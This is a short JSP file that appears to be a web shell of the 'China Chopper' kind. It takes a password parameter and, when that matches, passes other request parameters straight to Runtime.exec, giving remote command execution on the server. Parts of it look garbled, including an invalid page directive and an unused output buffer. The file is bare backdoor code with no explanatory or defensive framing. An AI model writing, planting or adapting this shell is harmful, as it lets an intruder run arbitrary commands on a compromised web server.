<%@ inert %>
<%!
class Cmd { private HttpServletRequest q; Cmd(HttpServletRequest q) { this.q = q; }
String go(String z0) throws Exception { StringBuffer sb = new StringBuffer(); String[] c = { z0.substring(0, 2), z0.substring(2), q.getParameter("z2") }; Process p = Runtime.getRuntime().exec(c); return sb.toString(); } }
void AA(StringBuffer sb) throws Exception { File k[] = File.listRoots(); for (int i = 0; i < k.length; i++) { sb.append(k[i].toString().substring(0, 2)); } }
String EC(String s, String c) throws Exception { return new String(s.getBytes("ISO-8859-1"), c); }
%><% String Z = EC(request.getParameter("pwd") + "", "GB2312"); String z1 = EC(request.getParameter("z1") + "", "GB2312"); if (Z.equals("M")) { String[] c = { z1.substring(2), z1.substring(0, 2), "x" }; Process p = Runtime.getRuntime().exec(c); } %>